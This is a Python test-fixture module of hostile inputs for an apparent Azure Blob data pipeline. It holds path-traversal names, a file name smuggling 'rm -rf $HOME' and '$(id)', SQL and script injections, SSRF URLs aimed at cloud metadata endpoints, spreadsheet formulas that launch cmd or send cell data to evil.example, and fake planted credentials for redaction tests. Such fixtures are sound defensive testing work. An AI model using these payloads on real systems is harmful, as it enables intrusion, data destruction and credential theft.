"""Names, addresses, formulas and secrets that strangers choose. Every name, address and secret bears its mark."""

from __future__ import annotations

MARK = "ZQ7"
"""In capitals: names of temporary folders have none, and one of many held these three by chance."""
"""In every name: a path on this machine that holds it came from a stranger."""

PLANTED = "pLanTed0secret"
"""In every secret: it may be found nowhere."""

NAMES: tuple[str, ...] = (
    "%2e%2e/ZQ7.csv",
    "%2e%2e%2f%2e%2e%2fZQ7.csv",
    "%252e%252e%252fZQ7.csv",
    "..%c0%af..%c0%afZQ7.csv",
    "..;/ZQ7.csv",
    "....//ZQ7.csv",
    "/etc/ZQ7",
    "//ZQ7.example/share/x.csv",
    "C:\\ZQ7.csv",
    "C:ZQ7.csv",
    "\\\\ZQ7\\share\\x.csv",
    "file:///etc/ZQ7",
    "~/ZQ7.csv",
    "ZQ7/",
    "ZQ7.csv.",
    "ZQ7.csv ",
    " ZQ7.csv",
    "CON.ZQ7.csv",
    "ZQ7.csv::$DATA",
    "ZQ7\u2028\u2029.csv",
    "ZQ7\u202egnp.csv",
    "\ufeffZQ7\u200b\u200d.csv",
    "ZQ7-\u212b-A\u030a-\U0001f427.csv",
    "ZQ7" + "\u0301" * 300 + ".csv",
    "ZQ7" + "/d" * 253 + ".csv",
    "ZQ7?comp=metadata&sig=x.csv",
    "ZQ7#fragment.csv",
    "ZQ7;rm -rf $HOME;`id`;$(id)|id&.csv",
    "ZQ7%s%n%(name)s{0}{name!r}.csv",
    "ZQ7{{7*7}}${7*7}.csv",
    "ZQ7'; DROP TABLE driftloop; --.csv",
    "ZQ7' or PartitionKey ne 'x.csv",
    "ZQ7<script>alert(1)<%2Fscript>.csv",
    'ZQ7"},"code":"x","state":"new","a":{".csv',
    "=HYPERLINK('ZQ7').csv",
    "_SUCCESS/ZQ7/_SUCCESS",
)

UNADDRESSABLE: tuple[str, ...] = (
    "../ZQ7.csv",
    "../../../../etc/ZQ7",
    "a/../../ZQ7.csv",
    "a/./ZQ7.csv",
    "..\\..\\ZQ7.csv",
    "ZQ7\x00.csv",
    "ZQ7\r\nSet-Cookie: a=b.csv",
    "ZQ7\n{}.csv",
    "ZQ7\x1b[2J\x1b[31m.csv",
    "ZQ7\x07\x08\x7f.csv",
    "ZQ7\ud800.csv",
    "ZQ7" + "x" * 1030 + ".csv",
    "ZQ7\t.csv",
)
"""Dot segments would lead to another blob, control characters and halves of pairs are refused by Azure."""

UNLISTED = "ZQ7\ufffe\uffff.csv"
"""Azure lists such a name in its own encoding; Azurite answers every listing that holds it with 500."""

ADDRESSES: tuple[str, ...] = (
    "http://169.254.169.254/metadata/identity/oauth2/token?ZQ7",
    "http://[::ffff:169.254.169.254]/metadata/ZQ7",
    "http://[::ffff:a9fe:a9fe]/ZQ7",
    "http://2852039166/metadata/ZQ7",
    "http://0xa9fea9fe/ZQ7",
    "http://0251.0376.0251.0376/ZQ7",
    "http://169.254.43518/ZQ7",
    "http://168.63.129.16/machine/ZQ7",
    "http://127.0.0.1:1/landing/birds/ZQ7.csv",
    "http://[::1]:1/landing/birds/ZQ7.csv",
    "http://localhost/landing/birds/ZQ7.csv",
    "http://0.0.0.0/landing/birds/ZQ7.csv",
    "https://account.blob.core.windows.net@ZQ7.example/landing/birds/ZQ7.csv",
    "https://ZQ7:pass@account.blob.core.windows.net/landing/birds/ZQ7.csv",
    "https://account.blob.core.windows.net.ZQ7.example/landing/birds/ZQ7.csv",
    "https://account.blob.core.windows.net:444/landing/birds/ZQ7.csv",
    "https://account-ZQ7.blob.core.windows.net/landing/birds/ZQ7.csv",
    "https://accountZQ7.dfs.core.windows.net/landing/birds/ZQ7.csv",
    "http://account.blob.core.windows.net/landing/birds/ZQ7.csv",
    "https://ZQ7.example\\@account.blob.core.windows.net/landing/birds/ZQ7.csv",
    "https://account.blob.core.windows.net%2f@ZQ7.example/landing/birds/ZQ7.csv",
    "//account.blob.core.windows.net/landing/birds/ZQ7.csv",
    "file:///etc/passwd?ZQ7",
    "gopher://ZQ7.example:70/_x",
    "ftp://ZQ7.example/landing/birds/ZQ7.csv",
    "javascript:fetch('//ZQ7.example')",
    "https://[ZQ7/landing/birds/x.csv",
    "ZQ7",
)

FORMULAS: tuple[str, ...] = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"look")',
    '=IMPORTXML(CONCAT("https://evil.example?x=",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    "%0A=1+1",
    "\uff1d1+1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    ";=1+1",
    '=1+1";=1+1',
)

BESIDE = "ZQ7beside"
"""Stands beside a secret and is none: where it is found, the secret would be."""

SECRETS: tuple[str, ...] = (
    f"https://user:{PLANTED}@host/x",
    f"postgres://user:{PLANTED}@host/db",
    f"https://a.blob.core.windows.net/c/b?sv=1&sig={PLANTED}%3D",
    f"https://host/api?code={PLANTED}",
    f"sig={PLANTED}&se=1",
    f"AccountName=x;AccountKey={PLANTED}==;EndpointSuffix=core.windows.net",
    f"SharedAccessKey={PLANTED}",
    f"SharedAccessSignature={PLANTED}",
    f"SharedAccessSignature sr=x&sig={PLANTED}&se=1",
    f"client_secret={PLANTED}",
    f"AZURE_CLIENT_SECRET={PLANTED}",
    f"IDENTITY_HEADER={PLANTED}",
    f"DRIFTLOOP_TOKEN: {PLANTED}",
    f"access_token={PLANTED}",
    f'{{"access_token": "{PLANTED}"}}',
    f'{{\\"password\\": \\"{PLANTED}\\"}}',
    f"{{'password': '{PLANTED}'}}",
    f'apiKey="{PLANTED}"',
    f"accountKey: '{PLANTED}'",
    f"token = {PLANTED}",
    f"pwd={PLANTED}",
    f"Password={PLANTED};",
    f"Authorization: Bearer {PLANTED}",
    f"Authorization: Basic {PLANTED}",
    f"Authorization=Basic {PLANTED}",
    f"Proxy-Authorization: Basic {PLANTED}",
    f"Set-Cookie: session={PLANTED}",
    f"{{'token': b'{PLANTED}'}}",
    f"Authorization: SharedKey account:{PLANTED}",
    f"x-functions-key: {PLANTED}",
    f"x-identity-header: {PLANTED}",
    f"api-key: {PLANTED}",
    f"Ocp-Apim-Subscription-Key: {PLANTED}",
    f"eyJhbGciOiJI.{PLANTED}.{PLANTED}",
    f"-----BEGIN RSA PRIVATE KEY-----\n{PLANTED}\n-----END RSA PRIVATE KEY-----",
)

HARMLESS: tuple[str, ...] = (
    "exit code=137",
    "unknown token: birds",
    "KeyError: 'body_mass_g'",
    "exit code 1",
    "no such column: token_count",
    "Unexpected token: '<'"[:17],
    "https://host/path is down",
    "the row key is not found",
    "the password must be longer",
    "a basic model",
    "significant: p = 0.01",
    "File /a/b.py, line 3, in read_tokens",
    "key=3",
)
"""Words that only sound like one."""
